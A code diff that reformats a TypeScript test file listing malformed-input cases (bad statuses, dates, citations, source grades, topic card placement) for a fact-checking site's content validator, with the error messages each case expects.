@@ -26,8 +26,10 @@ const SOURCES = 'sources.yaml';
 const EXPLAINER = 'explainer.yaml';
 
 /** Adds a block of MDX at the end of the topic page, two lines below the last card (line 20). */
-const appendToTopic = (mdx: string) => (copy: ContentCopy) => copy.write(TOPIC, `${copy.read(TOPIC)}\n${mdx}\n`);
-const edit = (file: string, from: string, to: string) => (copy: ContentCopy) => copy.edit(file, from, to);
+const appendToTopic = (mdx: string) => (copy: ContentCopy) =>
+  copy.write(TOPIC, `${copy.read(TOPIC)}\n${mdx}\n`);
+const edit = (file: string, from: string, to: string) => (copy: ContentCopy) =>
+  copy.edit(file, from, to);
 
 const UNNAMED_CRITICS_UNCITED = `${SOURCES}:8:7  source "unnamed-critics" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`;
 const MINUTES_UNCITED = `${SOURCES}:1:7  source "council-minutes" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`;
@@ -37,50 +39,84 @@ export const cases: BadInput[] = [
   {
     name: 'a claim without a quote',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  quote: The Riverside council approved a new footbridge on 3 March.\n', ''),
+    apply: edit(
+      CLAIMS,
+      '  quote: The Riverside council approved a new footbridge on 3 March.\n',
+      '',
+    ),
     expected: [`${CLAIMS}:1:3  quote is required  (add quote: text)`],
   },
   {
     name: 'an empty rationale',
     kind: 'malformed',
     apply: edit(CLAIMS, "  rationale: The council's minutes record the vote.", '  rationale: ""'),
-    expected: [`${CLAIMS}:9:14  rationale is empty  (write something in rationale, or remove it if it is optional)`],
+    expected: [
+      `${CLAIMS}:9:14  rationale is empty  (write something in rationale, or remove it if it is optional)`,
+    ],
   },
   {
     name: 'a restatement over 120 characters',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  claim: The council approved a footbridge on 3 March.', `  claim: ${'The council approved a footbridge. '.repeat(4).trim()}`),
-    expected: [`${CLAIMS}:4:10  claim is 139 characters; the limit is 120  (shorten claim; put detail in the rationale instead)`],
+    apply: edit(
+      CLAIMS,
+      '  claim: The council approved a footbridge on 3 March.',
+      `  claim: ${'The council approved a footbridge. '.repeat(4).trim()}`,
+    ),
+    expected: [
+      `${CLAIMS}:4:10  claim is 139 characters; the limit is 120  (shorten claim; put detail in the rationale instead)`,
+    ],
   },
   {
     name: 'a misspelt status',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: established', '  status: establised'),
-    expected: [`${CLAIMS}:5:11  status "establised" is not one of established, reported, disputed, unverified, contradicted, opinion  (did you mean "established"? use one of established, reported, disputed, unverified, contradicted, opinion; the method page explains each)`],
+    expected: [
+      `${CLAIMS}:5:11  status "establised" is not one of established, reported, disputed, unverified, contradicted, opinion  (did you mean "established"? use one of established, reported, disputed, unverified, contradicted, opinion; the method page explains each)`,
+    ],
   },
   {
     name: 'a misspelt stance',
     kind: 'malformed',
-    apply: edit(CLAIMS, '    - source: council-minutes\n      stance: supports', '    - source: council-minutes\n      stance: support'),
-    expected: [`${CLAIMS}:8:15  citations[0].stance "support" is not one of supports, disputes, context  (did you mean "supports"? use one of supports, disputes, context; the method page explains each)`],
+    apply: edit(
+      CLAIMS,
+      '    - source: council-minutes\n      stance: supports',
+      '    - source: council-minutes\n      stance: support',
+    ),
+    expected: [
+      `${CLAIMS}:8:15  citations[0].stance "support" is not one of supports, disputes, context  (did you mean "supports"? use one of supports, disputes, context; the method page explains each)`,
+    ],
   },
   {
     name: 'a field the model does not have',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: established', '  status: established\n  verdict: true'),
-    expected: [`${CLAIMS}:6:3  unknown field "verdict"  (allowed fields are id, topic, quote, occurrence, claim, status, citations, rationale, conflictsWith, wouldSettle, reviewed, history)`],
+    expected: [
+      `${CLAIMS}:6:3  unknown field "verdict"  (allowed fields are id, topic, quote, occurrence, claim, status, citations, rationale, conflictsWith, wouldSettle, reviewed, history)`,
+    ],
   },
   {
     name: 'a date written day-first',
     kind: 'malformed',
-    apply: edit(CLAIMS, "record the vote.\n  reviewed: 2026-11-01", 'record the vote.\n  reviewed: 01/11/2026'),
-    expected: [`${CLAIMS}:10:13  reviewed "01/11/2026" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`],
+    apply: edit(
+      CLAIMS,
+      'record the vote.\n  reviewed: 2026-11-01',
+      'record the vote.\n  reviewed: 01/11/2026',
+    ),
+    expected: [
+      `${CLAIMS}:10:13  reviewed "01/11/2026" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`,
+    ],
   },
   {
     name: 'a date that does not exist',
     kind: 'malformed',
-    apply: edit(CLAIMS, "record the vote.\n  reviewed: 2026-11-01", 'record the vote.\n  reviewed: 2026-02-30'),
-    expected: [`${CLAIMS}:10:13  reviewed "2026-02-30" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`],
+    apply: edit(
+      CLAIMS,
+      'record the vote.\n  reviewed: 2026-11-01',
+      'record the vote.\n  reviewed: 2026-02-30',
+    ),
+    expected: [
+      `${CLAIMS}:10:13  reviewed "2026-02-30" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`,
+    ],
   },
   {
     name: 'an id with capitals and an underscore',
@@ -89,7 +125,9 @@ export const cases: BadInput[] = [
       copy.edit(CLAIMS, '- id: council-approved-bridge', '- id: Council_Approved');
       copy.edit(TOPIC, '<Claim id="council-approved-bridge"/>', '<Claim id="Council_Approved"/>');
     },
-    expected: [`${CLAIMS}:1:7  id "Council_Approved" is not a valid id  (use lowercase words joined by hyphens, e.g. "council-approved")`],
+    expected: [
+      `${CLAIMS}:1:7  id "Council_Approved" is not a valid id  (use lowercase words joined by hyphens, e.g. "council-approved")`,
+    ],
   },
   {
     name: 'a claim id that looks like a sentence id',
@@ -98,43 +136,79 @@ export const cases: BadInput[] = [
       copy.edit(CLAIMS, '- id: council-approved-bridge', '- id: s1');
       copy.edit(TOPIC, '<Claim id="council-approved-bridge"/>', '<Claim id="s1"/>');
     },
-    expected: [`${CLAIMS}:1:7  id "s1" looks like a sentence id (s1, s2, …)  (choose an id made of words, e.g. "kelly-denial")`],
+    expected: [
+      `${CLAIMS}:1:7  id "s1" looks like a sentence id (s1, s2, …)  (choose an id made of words, e.g. "kelly-denial")`,
+    ],
   },
   {
     name: 'a claim with no citations',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  citations:\n    - source: council-minutes\n      stance: supports\n', '  citations: []\n'),
-    expected: [`${CLAIMS}:6:14  citations has no entries  (add at least one entry to citations)`, MINUTES_UNCITED],
+    apply: edit(
+      CLAIMS,
+      '  citations:\n    - source: council-minutes\n      stance: supports\n',
+      '  citations: []\n',
+    ),
+    expected: [
+      `${CLAIMS}:6:14  citations has no entries  (add at least one entry to citations)`,
+      MINUTES_UNCITED,
+    ],
   },
   {
     name: 'citations written as text, not a list',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  citations:\n    - source: council-minutes\n      stance: supports\n', '  citations: council-minutes\n'),
-    expected: [`${CLAIMS}:6:14  citations should be a list, not the text "council-minutes"  (write citations as a list)`, MINUTES_UNCITED],
+    apply: edit(
+      CLAIMS,
+      '  citations:\n    - source: council-minutes\n      stance: supports\n',
+      '  citations: council-minutes\n',
+    ),
+    expected: [
+      `${CLAIMS}:6:14  citations should be a list, not the text "council-minutes"  (write citations as a list)`,
+      MINUTES_UNCITED,
+    ],
   },
   {
     name: 'occurrence zero',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  claim: The council approved a footbridge on 3 March.', '  occurrence: 0\n  claim: The council approved a footbridge on 3 March.'),
-    expected: [`${CLAIMS}:4:15  occurrence should be a whole number from 1, or all, not 0  (write occurrence as a whole number from 1, or all)`],
+    apply: edit(
+      CLAIMS,
+      '  claim: The council approved a footbridge on 3 March.',
+      '  occurrence: 0\n  claim: The council approved a footbridge on 3 March.',
+    ),
+    expected: [
+      `${CLAIMS}:4:15  occurrence should be a whole number from 1, or all, not 0  (write occurrence as a whole number from 1, or all)`,
+    ],
   },
   {
     name: 'a quote that is not in the article',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  quote: The Riverside council approved a new footbridge on 3 March.', '  quote: The Riverside council approved a new bridge on 3 March.'),
-    expected: [`${CLAIMS}:3:10  quote is not in the article  (copy the words exactly (the article uses curly quotes ’ and dashes —); the closest sentence is s1: "The Riverside council approved a new footbridge on 3 March.")`],
+    apply: edit(
+      CLAIMS,
+      '  quote: The Riverside council approved a new footbridge on 3 March.',
+      '  quote: The Riverside council approved a new bridge on 3 March.',
+    ),
+    expected: [
+      `${CLAIMS}:3:10  quote is not in the article  (copy the words exactly (the article uses curly quotes ’ and dashes —); the closest sentence is s1: "The Riverside council approved a new footbridge on 3 March.")`,
+    ],
   },
   {
     name: 'a quote that occurs more than once',
     kind: 'malformed',
     apply: edit(CLAIMS, '  quote: Critics called the project a waste of money.', '  quote: the'),
-    expected: [`${CLAIMS}:13:10  quote occurs 3 times in the article (in s2, s2, s3)  (quote more words so it occurs once, or add occurrence: 1 to 3, or occurrence: all)`],
+    expected: [
+      `${CLAIMS}:13:10  quote occurs 3 times in the article (in s2, s2, s3)  (quote more words so it occurs once, or add occurrence: 1 to 3, or occurrence: all)`,
+    ],
   },
   {
     name: 'an occurrence the quote does not have',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  claim: The council approved a footbridge on 3 March.', '  occurrence: 2\n  claim: The council approved a footbridge on 3 March.'),
-    expected: [`${CLAIMS}:4:15  occurrence 2 asked for, but the quote occurs 1 time  (remove occurrence)`],
+    apply: edit(
+      CLAIMS,
+      '  claim: The council approved a footbridge on 3 March.',
+      '  occurrence: 2\n  claim: The council approved a footbridge on 3 March.',
+    ),
+    expected: [
+      `${CLAIMS}:4:15  occurrence 2 asked for, but the quote occurs 1 time  (remove occurrence)`,
+    ],
   },
 
   // --- Claims: ids and references --------------------------------------------------------------
@@ -142,19 +216,30 @@ export const cases: BadInput[] = [
     name: 'a citation of a source that does not exist',
     kind: 'malformed',
     apply: edit(CLAIMS, '    - source: unnamed-critics', '    - source: unnamed-critic'),
-    expected: [`${CLAIMS}:17:15  source "unnamed-critic" does not exist  (did you mean "unnamed-critics"? cite an id from sources.yaml, or add the source there)`, UNNAMED_CRITICS_UNCITED],
+    expected: [
+      `${CLAIMS}:17:15  source "unnamed-critic" does not exist  (did you mean "unnamed-critics"? cite an id from sources.yaml, or add the source there)`,
+      UNNAMED_CRITICS_UNCITED,
+    ],
   },
   {
     name: 'the same source cited twice on one claim',
     kind: 'malformed',
-    apply: edit(CLAIMS, '    - source: unnamed-critics\n      stance: supports', '    - source: unnamed-critics\n      stance: supports\n    - source: unnamed-critics\n      stance: context'),
-    expected: [`${CLAIMS}:19:15  source "unnamed-critics" is cited twice on the same claim  (cite each source once, with the stance that fits best)`],
+    apply: edit(
+      CLAIMS,
+      '    - source: unnamed-critics\n      stance: supports',
+      '    - source: unnamed-critics\n      stance: supports\n    - source: unnamed-critics\n      stance: context',
+    ),
+    expected: [
+      `${CLAIMS}:19:15  source "unnamed-critics" is cited twice on the same claim  (cite each source once, with the stance that fits best)`,
+    ],
   },
   {
     name: 'a topic that does not exist',
     kind: 'malformed',
     apply: edit(CLAIMS, '  topic: bridge\n  quote: Critics', '  topic: bridges\n  quote: Critics'),
-    expected: [`${CLAIMS}:12:10  topic "bridges" does not exist  (did you mean "bridge"? use one of bridge, or add topics/bridges.mdx)`],
+    expected: [
+      `${CLAIMS}:12:10  topic "bridges" does not exist  (did you mean "bridge"? use one of bridge, or add topics/bridges.mdx)`,
+    ],
   },
   {
     name: 'two claims with the same id',
@@ -168,20 +253,38 @@ export const cases: BadInput[] = [
   {
     name: 'a conflict with a claim that does not exist',
     kind: 'malformed',
-    apply: edit(CLAIMS, "  rationale: The council's minutes record the vote.", "  rationale: The council's minutes record the vote.\n  conflictsWith: [bridge-is-wast]"),
-    expected: [`${CLAIMS}:10:19  conflictsWith "bridge-is-wast" is neither a claim id nor a sentence id  (did you mean "bridge-is-waste"? list claim ids or sentence ids such as s12)`],
+    apply: edit(
+      CLAIMS,
+      "  rationale: The council's minutes record the vote.",
+      "  rationale: The council's minutes record the vote.\n  conflictsWith: [bridge-is-wast]",
+    ),
+    expected: [
+      `${CLAIMS}:10:19  conflictsWith "bridge-is-wast" is neither a claim id nor a sentence id  (did you mean "bridge-is-waste"? list claim ids or sentence ids such as s12)`,
+    ],
   },
   {
     name: 'a conflict with a sentence that does not exist',
     kind: 'malformed',
-    apply: edit(CLAIMS, "  rationale: The council's minutes record the vote.", "  rationale: The council's minutes record the vote.\n  conflictsWith: [s9]"),
-    expected: [`${CLAIMS}:10:19  sentence "s9" does not exist; the article has sentences s1 to s3  (find the sentence id on the annotated article page (/article/))`],
+    apply: edit(
+      CLAIMS,
+      "  rationale: The council's minutes record the vote.",
+      "  rationale: The council's minutes record the vote.\n  conflictsWith: [s9]",
+    ),
+    expected: [
+      `${CLAIMS}:10:19  sentence "s9" does not exist; the article has sentences s1 to s3  (find the sentence id on the annotated article page (/article/))`,
+    ],
   },
   {
     name: 'a claim that conflicts with itself',
     kind: 'malformed',
-    apply: edit(CLAIMS, "  rationale: The council's minutes record the vote.", "  rationale: The council's minutes record the vote.\n  conflictsWith: [council-approved-bridge]"),
-    expected: [`${CLAIMS}:10:19  claim "council-approved-bridge" lists itself in conflictsWith  (list the other claims or sentences it contradicts)`],
+    apply: edit(
+      CLAIMS,
+      "  rationale: The council's minutes record the vote.",
+      "  rationale: The council's minutes record the vote.\n  conflictsWith: [council-approved-bridge]",
+    ),
+    expected: [
+      `${CLAIMS}:10:19  claim "council-approved-bridge" lists itself in conflictsWith  (list the other claims or sentences it contradicts)`,
+    ],
   },
 
   // --- Claims: evidence rules ----------------------------------------------------------------
@@ -189,43 +292,69 @@ export const cases: BadInput[] = [
     name: 'established on an unattributed source',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: opinion', '  status: established'),
-    expected: [`${CLAIMS}:15:11  claim "bridge-is-waste" is "established", but that needs a supporting source graded A, or two independent supporting sources graded B or better, and no source graded C or better disputing it; its supporting sources are unnamed-critics (E)  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`],
+    expected: [
+      `${CLAIMS}:15:11  claim "bridge-is-waste" is "established", but that needs a supporting source graded A, or two independent supporting sources graded B or better, and no source graded C or better disputing it; its supporting sources are unnamed-critics (E)  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`,
+    ],
   },
   {
     name: 'reported on an unattributed source',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: opinion', '  status: reported'),
-    expected: [`${CLAIMS}:15:11  claim "bridge-is-waste" is "reported", but that needs a supporting source graded C or better, and no named source (A to D) disputing it; its supporting sources are unnamed-critics (E)  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`],
+    expected: [
+      `${CLAIMS}:15:11  claim "bridge-is-waste" is "reported", but that needs a supporting source graded C or better, and no named source (A to D) disputing it; its supporting sources are unnamed-critics (E)  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`,
+    ],
   },
   {
     name: 'disputed with nothing disputing it',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: established', '  status: disputed'),
-    expected: [`${CLAIMS}:5:11  claim "council-approved-bridge" is "disputed", but that needs a supporting source graded D or better and a disputing source graded D or better (a credible source or a named party on record); no source graded D or better disputes it  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`],
+    expected: [
+      `${CLAIMS}:5:11  claim "council-approved-bridge" is "disputed", but that needs a supporting source graded D or better and a disputing source graded D or better (a credible source or a named party on record); no source graded D or better disputes it  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`,
+    ],
   },
   {
     name: 'contradicted with no disputing source and no listed conflict',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: opinion', '  status: contradicted'),
-    expected: [`${CLAIMS}:15:11  claim "bridge-is-waste" is "contradicted", but that needs a disputing source graded B or better (the public record), or a listed conflict with the article itself (conflictsWith); no source graded B or better disputes it and it lists no conflict with the article  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`],
+    expected: [
+      `${CLAIMS}:15:11  claim "bridge-is-waste" is "contradicted", but that needs a disputing source graded B or better (the public record), or a listed conflict with the article itself (conflictsWith); no source graded B or better disputes it and it lists no conflict with the article  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`,
+    ],
   },
   {
     name: 'unverified when the public record disputes it',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  status: opinion\n  citations:\n    - source: unnamed-critics\n      stance: supports', '  status: unverified\n  citations:\n    - source: unnamed-critics\n      stance: supports\n    - source: council-minutes\n      stance: disputes'),
-    expected: [`${CLAIMS}:15:11  claim "bridge-is-waste" is "unverified", but that needs a supporting source of any grade (who makes the claim), and no source graded B or better disputing it; it is disputed by council-minutes (A), so it is contradicted  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`],
+    apply: edit(
+      CLAIMS,
+      '  status: opinion\n  citations:\n    - source: unnamed-critics\n      stance: supports',
+      '  status: unverified\n  citations:\n    - source: unnamed-critics\n      stance: supports\n    - source: council-minutes\n      stance: disputes',
+    ),
+    expected: [
+      `${CLAIMS}:15:11  claim "bridge-is-waste" is "unverified", but that needs a supporting source of any grade (who makes the claim), and no source graded B or better disputing it; it is disputed by council-minutes (A), so it is contradicted  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`,
+    ],
   },
   {
     name: 'a claim nobody makes (context citations only)',
     kind: 'malformed',
-    apply: edit(CLAIMS, '    - source: unnamed-critics\n      stance: supports', '    - source: unnamed-critics\n      stance: context'),
-    expected: [`${CLAIMS}:15:11  claim "bridge-is-waste" is "opinion", but that needs at least one citation that supports it: who makes the claim; nothing supports it  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`],
+    apply: edit(
+      CLAIMS,
+      '    - source: unnamed-critics\n      stance: supports',
+      '    - source: unnamed-critics\n      stance: context',
+    ),
+    expected: [
+      `${CLAIMS}:15:11  claim "bridge-is-waste" is "opinion", but that needs at least one citation that supports it: who makes the claim; nothing supports it  (cite evidence that meets the rule, or choose the status the evidence supports (see /method/))`,
+    ],
   },
   {
     name: 'a history that ends in another status',
     kind: 'malformed',
-    apply: edit(CLAIMS, "  rationale: The council's minutes record the vote.", "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-10-01\n      from: reported\n      to: disputed\n      reason: A denial was published."),
-    expected: [`${CLAIMS}:13:11  the last history entry changes the status to "disputed", but the claim's status is "established"  (make the latest history entry end in the current status)`],
+    apply: edit(
+      CLAIMS,
+      "  rationale: The council's minutes record the vote.",
+      "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-10-01\n      from: reported\n      to: disputed\n      reason: A denial was published.",
+    ),
+    expected: [
+      `${CLAIMS}:13:11  the last history entry changes the status to "disputed", but the claim's status is "established"  (make the latest history entry end in the current status)`,
+    ],
   },
 
   // --- Sources ---------------------------------------------------------------------------------
@@ -239,37 +368,49 @@ export const cases: BadInput[] = [
     name: 'a grade off the scale',
     kind: 'malformed',
     apply: edit(SOURCES, '  grade: A', '  grade: G'),
-    expected: [`${SOURCES}:6:10  grade "G" is not one of A, B, C, D, E, F  (did you mean "A"? use one of A, B, C, D, E, F; the method page explains each)`],
+    expected: [
+      `${SOURCES}:6:10  grade "G" is not one of A, B, C, D, E, F  (did you mean "A"? use one of A, B, C, D, E, F; the method page explains each)`,
+    ],
   },
   {
     name: 'a misspelt kind',
     kind: 'malformed',
     apply: edit(SOURCES, '  kind: official-record', '  kind: offical-record'),
-    expected: [`${SOURCES}:4:9  kind "offical-record" is not one of official-record, statement, news-report, poll, anonymous-sources, party-claim, research, unattributed, article  (did you mean "official-record"? use one of official-record, statement, news-report, poll, anonymous-sources, party-claim, research, unattributed, article; the method page explains each)`],
+    expected: [
+      `${SOURCES}:4:9  kind "offical-record" is not one of official-record, statement, news-report, poll, anonymous-sources, party-claim, research, unattributed, article  (did you mean "official-record"? use one of official-record, statement, news-report, poll, anonymous-sources, party-claim, research, unattributed, article; the method page explains each)`,
+    ],
   },
   {
     name: 'a source date in words',
     kind: 'malformed',
     apply: edit(SOURCES, '  date: 2026-03-03', '  date: March 2026'),
-    expected: [`${SOURCES}:5:9  date "March 2026" is not a date written YYYY-MM-DD, YYYY-MM or YYYY  (write the date in ISO form (2026-01-23, 2026-01 or 2026), or "unknown" when nothing gives it)`],
+    expected: [
+      `${SOURCES}:5:9  date "March 2026" is not a date written YYYY-MM-DD, YYYY-MM or YYYY  (write the date in ISO form (2026-01-23, 2026-01 or 2026), or "unknown" when nothing gives it)`,
+    ],
   },
   {
     name: 'a url with an ftp: scheme',
     kind: 'malformed',
     apply: edit(SOURCES, '  grade: A', '  url: ftp://council.example/minutes.pdf\n  grade: A'),
-    expected: [`${SOURCES}:6:8  url "ftp://council.example/minutes.pdf" is not a web address starting with https:// or http://  (give the full https:// address, or remove the url and cite by name, publisher and date)`],
+    expected: [
+      `${SOURCES}:6:8  url "ftp://council.example/minutes.pdf" is not a web address starting with https:// or http://  (give the full https:// address, or remove the url and cite by name, publisher and date)`,
+    ],
   },
   {
     name: 'a url that is not an address',
     kind: 'malformed',
     apply: edit(SOURCES, '  grade: A', '  url: council minutes page\n  grade: A'),
-    expected: [`${SOURCES}:6:8  url "council minutes page" is not a web address starting with https:// or http://  (give the full https:// address, or remove the url and cite by name, publisher and date)`],
+    expected: [
+      `${SOURCES}:6:8  url "council minutes page" is not a web address starting with https:// or http://  (give the full https:// address, or remove the url and cite by name, publisher and date)`,
+    ],
   },
   {
     name: 'derivedFrom a source that does not exist',
     kind: 'malformed',
     apply: edit(SOURCES, '  grade: E', '  grade: E\n  derivedFrom: council-minute'),
-    expected: [`${SOURCES}:14:16  derivedFrom "council-minute" is not a source  (did you mean "council-minutes"? name the id of the source this one relays)`],
+    expected: [
+      `${SOURCES}:14:16  derivedFrom "council-minute" is not a source  (did you mean "council-minutes"? name the id of the source this one relays)`,
+    ],
   },
   {
     name: 'two sources relaying each other',
@@ -295,14 +436,22 @@ export const cases: BadInput[] = [
   {
     name: 'a source nothing cites',
     kind: 'malformed',
-    apply: (copy) => copy.write(SOURCES, `${copy.read(SOURCES)}- id: council-press-release\n  title: Press release\n  publisher: Riverside council\n  kind: statement\n  date: 2026-03-04\n  grade: A\n  gradeReason: The council's own words.\n`),
-    expected: [`${SOURCES}:15:7  source "council-press-release" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`],
+    apply: (copy) =>
+      copy.write(
+        SOURCES,
+        `${copy.read(SOURCES)}- id: council-press-release\n  title: Press release\n  publisher: Riverside council\n  kind: statement\n  date: 2026-03-04\n  grade: A\n  gradeReason: The council's own words.\n`,
+      ),
+    expected: [
+      `${SOURCES}:15:7  source "council-press-release" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`,
+    ],
   },
   {
     name: 'a source registry written as a mapping, not a list',
     kind: 'malformed',
     apply: (copy) => copy.write(SOURCES, 'council-minutes:\n  title: Minutes\n'),
-    expected: [`${SOURCES}:1:1  expected a list of sources (each item starting with "- ")  (write the file as a YAML list: "- id: …")`],
+    expected: [
+      `${SOURCES}:1:1  expected a list of sources (each item starting with "- ")  (write the file as a YAML list: "- id: …")`,
+    ],
   },
 
   // --- The explainer and its article -------------------------------------------------------------
@@ -316,32 +465,55 @@ export const cases: BadInput[] = [
     name: 'a received date in the wrong form',
     kind: 'malformed',
     apply: edit(EXPLAINER, '  received: 2026-11-01', '  received: 1 November 2026'),
-    expected: [`${EXPLAINER}:11:13  article.received "1 November 2026" is not a date written YYYY-MM-DD  (write article.received as a real day in ISO form, e.g. 2026-01-23)`],
+    expected: [
+      `${EXPLAINER}:11:13  article.received "1 November 2026" is not a date written YYYY-MM-DD  (write article.received as a real day in ISO form, e.g. 2026-01-23)`,
+    ],
   },
   {
     name: 'a piece of the article that starts with words it does not contain',
     kind: 'malformed',
-    apply: edit(EXPLAINER, '  provenance:', '  parts:\n    - startsWith: The town council\n      label: The report\n  provenance:'),
-    expected: [`${EXPLAINER}:13:19  no sentence of the article starts with "The town council"  (copy the opening words of the sentence that starts the piece exactly)`],
+    apply: edit(
+      EXPLAINER,
+      '  provenance:',
+      '  parts:\n    - startsWith: The town council\n      label: The report\n  provenance:',
+    ),
+    expected: [
+      `${EXPLAINER}:13:19  no sentence of the article starts with "The town council"  (copy the opening words of the sentence that starts the piece exactly)`,
+    ],
   },
   {
     name: 'a missing article',
     kind: 'malformed',
     apply: (copy) => rmSync(path.join(copy.dir, 'article.txt')),
-    expected: [`article.txt:1:1  article.txt is missing  (create it; see CONTRIBUTING.md for its format)`],
+    expected: [
+      `article.txt:1:1  article.txt is missing  (create it; see CONTRIBUTING.md for its format)`,
+    ],
   },
 
   {
     name: 'a folder where a claims file should be',
     kind: 'malformed',
     apply: (copy) => mkdirSync(path.join(copy.dir, 'claims/more.yaml')),
-    expected: ['claims/more.yaml:1:1  cannot read the file: it is a folder, not a file  (check that the file exists and is readable)'],
+    expected: [
+      'claims/more.yaml:1:1  cannot read the file: it is a folder, not a file  (check that the file exists and is readable)',
+    ],
   },
   {
     name: 'an explainer written as a list',
     kind: 'malformed',
-    apply: (copy) => copy.write(EXPLAINER, `- ${copy.read(EXPLAINER).split('\n').filter((line) => line.startsWith('title:'))[0]}\n`),
-    expected: [`${EXPLAINER}:1:1  expected a mapping of fields ("field: value")  (write the file as "field: value" lines; see CONTRIBUTING.md)`],
+    apply: (copy) =>
+      copy.write(
+        EXPLAINER,
+        `- ${
+          copy
+            .read(EXPLAINER)
+            .split('\n')
+            .filter((line) => line.startsWith('title:'))[0]
+        }\n`,
+      ),
+    expected: [
+      `${EXPLAINER}:1:1  expected a mapping of fields ("field: value")  (write the file as "field: value" lines; see CONTRIBUTING.md)`,
+    ],
   },
 
   // --- Topics ------------------------------------------------------------------------------------
@@ -357,7 +529,9 @@ export const cases: BadInput[] = [
     name: 'an order written in words',
     kind: 'malformed',
     apply: edit(TOPIC, 'order: 1', 'order: first'),
-    expected: [`${TOPIC}:4:8  order should be a whole number, not the text "first"  (write order as a whole number)`],
+    expected: [
+      `${TOPIC}:4:8  order should be a whole number, not the text "first"  (write order as a whole number)`,
+    ],
   },
   {
     name: 'a topic without a summary',
@@ -370,7 +544,13 @@ export const cases: BadInput[] = [
     kind: 'malformed',
     apply: (copy) => {
       copy.write('topics/Bridge Page.mdx', copy.read(TOPIC));
-      copy.write(TOPIC, copy.read(TOPIC).replace(/<Claim id="[^"]+"\/>/g, '').replace('<StatusBox/>', '<StatusBox/>'));
+      copy.write(
+        TOPIC,
+        copy
+          .read(TOPIC)
+          .replace(/<Claim id="[^"]+"\/>/g, '')
+          .replace('<StatusBox/>', '<StatusBox/>'),
+      );
     },
     expected: [
       `${CLAIMS}:1:7  claim "council-approved-bridge" is not placed on any page  (add <Claim id="council-approved-bridge"/> to topics/bridge.mdx)`,
@@ -383,81 +563,122 @@ export const cases: BadInput[] = [
     kind: 'malformed',
     apply: (copy) => {
       copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', '');
-      copy.write('topics/costs.mdx', '---\ntitle: Costs\nsummary: Who pays.\norder: 2\nreviewed: 2026-11-01\n---\n\n<StatusBox/>\n\n<Claim id="bridge-is-waste"/>\n');
+      copy.write(
+        'topics/costs.mdx',
+        '---\ntitle: Costs\nsummary: Who pays.\norder: 2\nreviewed: 2026-11-01\n---\n\n<StatusBox/>\n\n<Claim id="bridge-is-waste"/>\n',
+      );
     },
-    expected: [`topics/costs.mdx:10:1  claim "bridge-is-waste" belongs to topic "bridge" but is placed on "costs"  (move <Claim id="bridge-is-waste"/> to topics/bridge.mdx and link to it here with <ClaimRef id="bridge-is-waste"/>, or change the claim's topic to "costs")`],
+    expected: [
+      `topics/costs.mdx:10:1  claim "bridge-is-waste" belongs to topic "bridge" but is placed on "costs"  (move <Claim id="bridge-is-waste"/> to topics/bridge.mdx and link to it here with <ClaimRef id="bridge-is-waste"/>, or change the claim's topic to "costs")`,
+    ],
   },
   {
     name: 'a card for a claim that does not exist',
     kind: 'malformed',
     apply: appendToTopic('<Claim id="bridge-is-wasted"/>'),
-    expected: [`${TOPIC}:20:1  claim "bridge-is-wasted" does not exist  (did you mean "bridge-is-waste"? use an id from claims/*.yaml, or add the claim there)`],
+    expected: [
+      `${TOPIC}:20:1  claim "bridge-is-wasted" does not exist  (did you mean "bridge-is-waste"? use an id from claims/*.yaml, or add the claim there)`,
+    ],
   },
   {
     name: 'the same card placed twice',
     kind: 'malformed',
     apply: appendToTopic('<Claim id="bridge-is-waste"/>'),
-    expected: [`${TOPIC}:20:1  claim "bridge-is-waste" is already placed at TOPIC_FILE:18  (place each claim once; elsewhere, link to it with <ClaimRef id="bridge-is-waste"/>)`],
+    expected: [
+      `${TOPIC}:20:1  claim "bridge-is-waste" is already placed at TOPIC_FILE:18  (place each claim once; elsewhere, link to it with <ClaimRef id="bridge-is-waste"/>)`,
+    ],
   },
   {
     name: 'a claim left off its page',
     kind: 'malformed',
     apply: edit(TOPIC, '<Claim id="bridge-is-waste"/>', ''),
-    expected: [`${CLAIMS}:11:7  claim "bridge-is-waste" is not placed on any page  (add <Claim id="bridge-is-waste"/> to topics/bridge.mdx)`],
+    expected: [
+      `${CLAIMS}:11:7  claim "bridge-is-waste" is not placed on any page  (add <Claim id="bridge-is-waste"/> to topics/bridge.mdx)`,
+    ],
   },
   {
     name: 'a topic without its box',
     kind: 'malformed',
     apply: edit(TOPIC, '<StatusBox/>', ''),
